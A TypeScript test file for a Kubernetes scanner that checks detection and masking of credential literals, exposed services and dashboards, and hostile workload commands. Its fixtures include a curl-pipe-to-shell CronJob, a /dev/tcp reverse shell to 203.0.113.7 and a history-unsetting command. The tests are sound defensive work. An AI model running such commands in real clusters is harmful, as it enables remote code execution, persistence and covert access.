// Secrets by value (never shown unmasked), workload commands through the content rules, and
// exposure through Services and Ingresses: each fires on its fixture and stays silent on a near miss.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { KubeObject } from '../../../src/core/model.js';
import { maskSecrets, secretValueKind } from '../../../src/core/detections/index.js';
import { byRule, container, findings, pod } from './helpers.js';

// Built at run time so the fixtures hold no literal credential for scanners of this repository to trip on.
const b64 = (n: number, seed: string) => Buffer.from(seed.repeat(n)).toString('base64').replace(/=+$/, '').slice(0, n);
const SECRETS: [string, string, string][] = [
  // [kind, value, near miss]
  ['an AWS access key', `AKIA${'IOSFODNN7EXAMPLE'}`, 'AKIA-is-the-prefix-of-aws-keys'],
  ['a PEM private key', `-----BEGIN RSA ${'PRIVATE'} KEY-----\nMIIEow...\n-----END RSA PRIVATE KEY-----`, '-----BEGIN CERTIFICATE-----\nMIIB...\n-----END CERTIFICATE-----'],
  ['a JSON web token', `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.${b64(43, 'sig')}`, 'eyJhbGciOiJIUzI1NiJ9'],
  ['a bearer token', `Bearer ${b64(40, 'tok')}`, 'Bearer realm="api"'],
  ['an Azure storage connection string', `DefaultEndpointsProtocol=https;AccountName=evidence;AccountKey=${b64(86, 'k')}==;EndpointSuffix=core.windows.net`, 'DefaultEndpointsProtocol=https;AccountName=evidence;EndpointSuffix=core.windows.net'],
  ['an Azure storage or Batch account key', `${b64(86, 'batch')}==`, b64(40, 'short')],
  ['a GitHub token', `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`, 'ghp_short'],
  ['a GitLab token', `glpat-${'xYz12345678901234567'}`, 'glpat-'],
  ['a password in a URL', 'postgres://app:S3cr3tP4ss@db.prod:5432/orders', 'postgres://app@db.prod:5432/orders'],
];

for (const [kind, value, nearMiss] of SECRETS) {
  test(`${kind}: recognised by value, masked in the finding; the near miss is not`, () => {
    assert.equal(secretValueKind(value), kind);
    assert.notEqual(secretValueKind(nearMiss), kind);
    const fs = byRule(findings([pod({ containers: [container({ env: [{ name: 'CONFIG_BLOB', value }] })] })]), 'POD-SECRET-ENV-LITERAL');
    assert.equal(fs.length, 1, 'a value in a credential format is found whatever the variable is called');
    assert.equal(fs[0]!.severity, 'high');
    assert.match(fs[0]!.fieldValue, /^CONFIG_BLOB=<masked /);
    const secretPart = value.replace(/^(?:Bearer |DefaultEndpointsProtocol=https;AccountName=evidence;AccountKey=|postgres:\/\/app:)/, '').slice(4, 16);
    for (const f of fs) assert.ok(!JSON.stringify(f).includes(secretPart), 'no part of the secret beyond its public prefix');
  });
}

test('more secret names: pwd, *_KEY, *_SECRET, signing keys; paths, ids and $(VAR) references are not', () => {
  const env = [
    { name: 'DB_PWD', value: 'hunter22' }, { name: 'STRIPE_KEY', value: 'abcd1234' }, { name: 'OAUTH_SECRET', value: 'abcd1234' }, { name: 'JWT_SIGNING_KEY', value: 'abcd1234' },
    { name: 'PWD', value: '/app' }, { name: 'ACCESS_KEY_ID', value: 'abcd1234' }, { name: 'TLS_KEY_PATH', value: '/etc/tls/key.pem' }, { name: 'API_KEY', value: '$(API_KEY_FROM_SECRET)' },
  ];
  const fs = byRule(findings([pod({ containers: [container({ env })] })]), 'POD-SECRET-ENV-LITERAL');
  assert.deepEqual(fs.map((f) => f.fieldValue.split('=')[0]), ['DB_PWD', 'STRIPE_KEY', 'OAUTH_SECRET', 'JWT_SIGNING_KEY']);
});

test('a secret on the command line is found and masked; a flag naming a file is not', () => {
  const c = container({ args: ['--db-password=Sup3rS3cret!', '--token-file=/var/run/token', '--log-level=info'] });
  const fs = byRule(findings([pod({ containers: [c] })]), 'POD-SECRET-ENV-LITERAL');
  assert.equal(fs.length, 1);
  assert.equal(fs[0]!.fieldPath, 'spec.containers[0].args[0]');
  assert.ok(!JSON.stringify(fs[0]).includes('Sup3rS3cret'));
  assert.equal(maskSecrets('curl -H "Authorization: Bearer abcdefghijklmnopqrstuvwxyz0123" https://x'), 'curl -H "Authorization: Bearer ****" https://x');
});

test('a config map with a credential is a finding, masked; one with ordinary settings is not', () => {
  const cm = (data: Record<string, string>): KubeObject => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'app', namespace: 'prod' }, data });
  const fs = byRule(findings([cm({ 'application.properties': 'server.port=8080\nspring.datasource.password=Pr0dP4ss\n', 'aws.env': `AWS_ACCESS_KEY_ID=AKIA${'IOSFODNN7EXAMPLE'}` })]), 'CONFIGMAP-SECRET');
  assert.equal(fs.length, 2);
  assert.ok(fs.every((f) => f.techniqueId === 'MS-TA9027' && !JSON.stringify(f).includes('Pr0dP4ss') && !JSON.stringify(f).includes('IOSFODNN7')));
  assert.deepEqual(byRule(findings([cm({ 'application.properties': 'server.port=8080\nspring.datasource.password=${DB_PASSWORD}\nlog.level=info' })]), 'CONFIGMAP-SECRET'), []);
});

function cronJob(command: string[]): KubeObject {
  return {
    apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'cleanup', namespace: 'prod', creationTimestamp: '2026-11-27T01:00:00Z' },
    spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: { containers: [container({ image: 'alpine:3.19', command })] } } } } },
  };
}

test('a CronJob whose command pipes a download into a shell is high and a persistence finding; an ordinary job is not', () => {
  const fs = findings([cronJob(['sh', '-c', 'curl -fsSL http://203.0.113.7/x.sh | sh'])]);
  const dl = byRule(fs, 'CONTENT-DOWNLOAD-EXECUTE');
  assert.equal(dl.length, 1);
  assert.equal(dl[0]!.severity, 'high');
  assert.equal(dl[0]!.fieldPath, 'spec.jobTemplate.spec.template.spec.containers[0].command');
  assert.equal(byRule(fs, 'POD-CRONJOB-PERSISTENCE').length, 1);
  const ok = findings([cronJob(['sh', '-c', 'curl -fsS https://api.prod.svc/cleanup -X POST'])]);
  assert.deepEqual(byRule(ok, 'CONTENT-DOWNLOAD-EXECUTE'), []);
  assert.deepEqual(byRule(ok, 'POD-CRONJOB-PERSISTENCE'), []);
});

test('a reverse shell or track-covering command in a pod spec is found', () => {
  const fs = findings([pod({ containers: [container({ command: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] }), container({ name: 'side', args: ['sh', '-c', 'unset HISTFILE; sleep 3600'] })] })]);
  assert.equal(byRule(fs, 'CONTENT-REVERSE-SHELL').length, 1);
  assert.equal(byRule(fs, 'CONTENT-COVERING-TRACKS')[0]!.resource.container, 'side');
  assert.deepEqual(byRule(findings([pod({ containers: [container({ command: ['nginx', '-g', 'daemon off;'] })] })]), 'CONTENT-REVERSE-SHELL'), []);
});

function service(name: string, spec: Record<string, unknown>, meta: Record<string, unknown> = {}): KubeObject {
  return { apiVersion: 'v1', kind: 'Service', metadata: { name, namespace: 'prod', creationTimestamp: '2026-11-27T01:00:00Z', ...meta }, spec };
}

test('a LoadBalancer exposing SSH is high; the same port on a ClusterIP, or a web LoadBalancer, is not a finding', () => {
  const lb = byRule(findings([service('jump', { type: 'LoadBalancer', ports: [{ port: 2222, targetPort: 22 }] })]), 'EXPOSED-SENSITIVE-PORT');
  assert.equal(lb.length, 1);
  assert.equal(lb[0]!.severity, 'high');
  assert.equal(lb[0]!.techniqueId, 'MS-TA9005');
  assert.deepEqual(lb[0]!.resource, { kind: 'Service', namespace: 'prod', name: 'jump', container: '' });
  assert.deepEqual(byRule(findings([service('jump', { type: 'ClusterIP', ports: [{ port: 22 }] })]), 'EXPOSED-SENSITIVE-PORT'), []);
  assert.deepEqual(byRule(findings([service('web', { type: 'LoadBalancer', ports: [{ port: 443, targetPort: 8443 }] })]), 'EXPOSED-SENSITIVE-PORT'), []);
});

test('externalIPs and NodePorts count; an internal load balancer is medium', () => {
  assert.equal(byRule(findings([service('redis', { externalIPs: ['20.1.2.3'], ports: [{ port: 6379 }] })]), 'EXPOSED-SENSITIVE-PORT')[0]!.severity, 'high');
  assert.equal(byRule(findings([service('kubelet', { type: 'NodePort', ports: [{ port: 10250, nodePort: 30250 }] })]), 'EXPOSED-SENSITIVE-PORT')[0]!.severity, 'medium');
  const internal = service('db', { type: 'LoadBalancer', ports: [{ port: 5432 }] }, { annotations: { 'service.beta.kubernetes.io/azure-load-balancer-internal': 'true' } });
  assert.equal(byRule(findings([internal]), 'EXPOSED-SENSITIVE-PORT')[0]!.severity, 'medium');
});

test('the dashboard behind a LoadBalancer or an Ingress is found; an Ingress to another service is not', () => {
  const dash = service('kubernetes-dashboard', { type: 'LoadBalancer', selector: { 'k8s-app': 'kubernetes-dashboard' }, ports: [{ port: 443, targetPort: 8443 }] });
  assert.equal(byRule(findings([dash]), 'EXPOSED-DASHBOARD').length, 1);
  const ing = (backend: string): KubeObject => ({
    apiVersion: 'networking.k8s.io/v1', kind: 'Ingress', metadata: { name: 'console', namespace: 'kubernetes-dashboard' },
    spec: { rules: [{ host: 'console.example.com', http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: backend, port: { number: 443 } } } }] } }] },
  });
  const hit = byRule(findings([ing('kubernetes-dashboard')]), 'EXPOSED-DASHBOARD');
  assert.equal(hit.length, 1);
  assert.equal(hit[0]!.fieldPath, 'spec.rules[0].http.paths[0].backend');
  assert.deepEqual(byRule(findings([ing('web-frontend')]), 'EXPOSED-DASHBOARD'), []);
});
